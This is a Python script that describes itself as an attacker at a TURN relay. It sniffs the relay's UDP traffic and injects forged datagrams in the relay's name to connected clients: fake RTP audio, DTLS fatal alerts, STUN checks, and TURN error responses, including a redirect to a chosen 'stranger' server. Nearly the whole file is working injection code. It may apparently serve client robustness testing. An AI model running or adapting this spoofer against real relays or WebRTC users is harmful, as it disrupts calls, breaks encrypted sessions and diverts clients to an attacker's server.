"""An attacker at a relay who puts datagrams of its own between the relay's, in the relay's name: to
each client that hears of its peer, on its channel and beside it, what looks like sound; and once
there is sound DTLS, checks, and answers and indications of TURN, too. usage: spoof.py RELAY STRANGER; runs until killed."""

import os
import socket
import struct
import sys

COOKIE = 0x2112A442
TURN = 3478
EVERY = 10
MARK = 0x45564521


def attribute(kind, value):
    return struct.pack("!HH", kind, len(value)) + value + bytes(-len(value) % 4)


def peer(address, port):
    octets = struct.unpack("!I", socket.inet_aton(address))[0] ^ COOKIE
    return attribute(0x0012, struct.pack("!BBHI", 0, 1, port ^ (COOKIE >> 16), octets))


def stun(kind, body, transaction=None):
    return struct.pack("!HHI", kind, len(body), COOKIE) + (transaction or os.urandom(12)) + body


def channel(number, payload):
    return struct.pack("!HH", number, len(payload)) + payload


def error(number):
    return attribute(0x0009, struct.pack("!HBB", 0, number // 100, number % 100))


def sound(turn, length):
    header = struct.pack("!BBHII", 0x80, 111, turn & 0xFFFF, 960 * turn & 0xFFFFFFFF, MARK)
    return header + os.urandom(max(length - 12, 20))


def dtls(kind, epoch, body):
    return struct.pack("!BHHHIH", kind, 0xFEFD, epoch, 0, 7, len(body)) + body


def forged(turn, number, length, stranger):
    hello = dtls(22, 0, b"\1" + bytes(3) + os.urandom(60))
    fatal = dtls(21, 0, b"\2\x28")
    sealed = dtls(21, 1, os.urandom(26))
    check = stun(0x0001, attribute(0x0006, b"abcd:efgh") + attribute(0x0024, os.urandom(4)))
    plain = [sound(turn, length), hello, fatal, sealed, check, os.urandom(40)]
    yield from (channel(number, payload) for payload in plain)
    yield from (channel(0x4FFE, payload) for payload in plain)
    yield from plain
    for payload in plain:
        yield stun(0x0017, peer(stranger, 40000) + attribute(0x0013, payload))
    for kind in (0x0113, 0x0114, 0x0118, 0x0119):
        yield stun(kind, error(437))
        yield stun(kind, error(300) + attribute(0x8023, struct.pack("!BBH", 0, 1, TURN) + socket.inet_aton(stranger)))
    yield stun(0x0104, attribute(0x000D, bytes(4)))
    yield stun(0x0101, attribute(0x0020, struct.pack("!BBHI", 0, 1, 9, 9)))
    yield channel(number, sound(turn, length))[:-9]
    yield stun(0x0017, b"")


def datagram(source, target, port, payload):
    length = 28 + len(payload)
    header = struct.pack("!BBHHHBBH", 0x45, 0, length, 0, 0, 64, 17, 0)
    header += socket.inet_aton(source) + socket.inet_aton(target)
    return header + struct.pack("!HHHH", TURN, port, length - 20, 0) + payload


def main():
    relay, stranger = sys.argv[1:]
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.ntohs(0x0003))
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print('{"event":"ready"}', flush=True)
    turns = {}
    while True:
        packet, link = tap.recvfrom(65536)
        start = (packet[0] & 15) * 4
        if link[1] != 0x0800 or packet[9] != 17 or packet[12:16] != socket.inet_aton(relay):
            continue
        source, port = struct.unpack_from("!HH", packet, start)
        payload = packet[start + 8 :]
        if source != TURN or len(payload) < 16 or payload[0] >> 6 != 1:
            continue
        number, length = struct.unpack_from("!HH", payload)
        speaks = payload[4] >> 6 == 2
        if speaks and struct.unpack_from("!I", payload, 12)[0] == MARK:
            continue
        client = socket.inet_ntoa(packet[16:20])
        turn = turns[client, port] = turns.get((client, port), 0) + 1
        if not speaks:
            early = sound(turn, 200)
            several = [channel(number, early), early, stun(0x0017, peer(stranger, 40000) + attribute(0x0013, early))]
        elif turn % EVERY == 0:
            several = forged(turn, number, length, stranger)
        else:
            several = []
        for each in several:
            out.sendto(datagram(relay, client, port, each), (client, 0))


main()
